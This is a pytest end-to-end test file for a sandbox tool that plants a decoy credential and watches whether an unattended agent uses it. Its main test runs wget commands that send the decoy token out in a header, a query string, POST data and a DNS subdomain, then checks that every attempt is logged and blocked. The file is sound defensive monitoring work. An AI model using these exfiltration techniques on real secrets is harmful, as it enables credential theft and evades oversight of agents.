"""The decoy of an unattended sandbox: nothing touches it by itself, and who uses it is seen everywhere."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandboxd.model.labels import DECOY_FILE
from sandboxd.plan import decoy
from tests.e2e import sandboxes
from tests.e2e.internet_of_engine import (
    PLAIN,
    busybox_image,
    engine,
    internet,
    private_engine,
    runtime,
)
from tests.e2e.outside import Outside
from tests.integration.daemon.world import World
from tests.patience import eventually

__all__ = ["busybox_image", "engine", "internet", "private_engine", "runtime"]

pytestmark = [pytest.mark.engine, pytest.mark.usefixtures("shared_cache")]

NAMES = {"allowed.test"}
UP = ("up", "--allow-runc")


class Person:
    """Has left an agent alone in one project."""

    def __init__(self, world: World, project: Path) -> None:
        self.world, self.project = world, project

    def run(self, *words: str) -> subprocess.CompletedProcess[str]:
        return self.world.run(*words, cwd=self.project)

    def inside(self, text: str) -> str:
        done = self.run("exec", "-n", "sh", "-c", text)
        return done.stdout + done.stderr

    def tripwires(self) -> list[Any]:
        """Of the log, in the order of their names."""
        done = self.run("egress", "log", "--json")
        assert done.returncode == 0, done.stderr
        lines = [line for line in json.loads(done.stdout)["lines"] if line["reason"] == "canary"]
        return sorted(lines, key=lambda line: (line["name"], line["door"]))


@pytest.fixture
def person(
    world: World, tmp_path: Path, busybox_image: str, runtime: str, internet: Outside
) -> Iterator[Person]:
    project = sandboxes.make_project(
        tmp_path / "ws", busybox_image, runtime, "agent", granted=False
    )
    with (project / "sandboxd.toml").open("a") as file:
        file.write('[network]\nallow = ["allowed.test:80"]\n')
    world.start()
    person = Person(world, project)
    assert person.run("trust", "add", "--yes").returncode == 0
    done = person.run(*UP)
    assert done.returncode == 0, done.stderr
    yield person
    person.run("down", "--discard")


def test_who_uses_what_the_decoy_holds_is_seen_everywhere(
    person: Person, internet: Outside
) -> None:
    name, token = decoy.name(str(person.project)), decoy.token(str(person.project))
    assert person.inside(f"cat {DECOY_FILE}") == f"https://backup:{token}@{name}/backup.git\n"
    assert token not in person.inside("env"), "the environment is printed by honest programs"
    assert "Read-only" in person.inside(f"echo >>{DECOY_FILE}") or person.inside("id -u") != "0\n"
    assert person.inside("wget -q -O - http://allowed.test/") == "outside for allowed.test\n"
    assert person.tripwires() == []
    assert "tripwire" not in person.run("status").stdout
    assert person.run("drift").returncode == 0, person.run("drift").stdout

    person.inside(f"{PLAIN}nslookup {name}")
    for sent in (
        f"--header 'Authorization: token {token}' http://allowed.test/",
        f"'http://allowed.test/?t={token}'",
        f"--post-data 'found={token}' http://allowed.test/",
        f"http://{token}.allowed.test/",
    ):
        for before in ("", PLAIN):
            person.inside(f"{before}wget -T 60 -q -O - {sent}")
    # By the proxy and without, each of the four, and the look-up before.
    eventually(lambda: sum(line["times"] for line in person.tripwires()) >= 9)
    lines = person.tripwires()
    assert {line["name"] for line in lines} == {
        name, "allowed.test", f"{token.lower()}.allowed.test",
    }  # fmt: skip
    # The daemon hears of them by the gateway's events, a moment after the gateway wrote them down.
    eventually(lambda: shown(person) >= 4, lambda: shown(person))
    assert re.search(r"tripwire +used \d+ times", person.run("status").stdout)
    eventually(lambda: name in recorded(person), lambda: recorded(person))
    assert not any(token in request for request in internet.heard)
    assert not any(
        asked.endswith((".internal", f"{token.lower()}.allowed.test")) for asked in internet.asked
    )


def shown(person: Person) -> int:
    """How often the status says that a tripwire was used."""
    (row,) = json.loads(person.run("status", "--json").stdout)["projects"]
    return int(row["names"]["tripwires"]) if row["names"] else 0


def recorded(person: Person) -> set[str]:
    """The names of tripwires in the audit record."""
    entries = map(json.loads, person.run("audit", "--json").stdout.splitlines())
    return {each["facts"]["name"] for each in entries if each["kind"] == "tripwire"}


def test_a_decoy_is_the_same_after_another_start_and_cannot_be_approved(person: Person) -> None:
    before = person.inside(f"cat {DECOY_FILE}")
    assert person.run("down", "--discard").returncode == 0
    assert person.run(*UP).returncode == 0
    assert person.inside(f"cat {DECOY_FILE}") == before
    done = person.run("egress", "allow", decoy.name(str(person.project)))
    assert done.returncode != 0 and "tripwire" in done.stderr
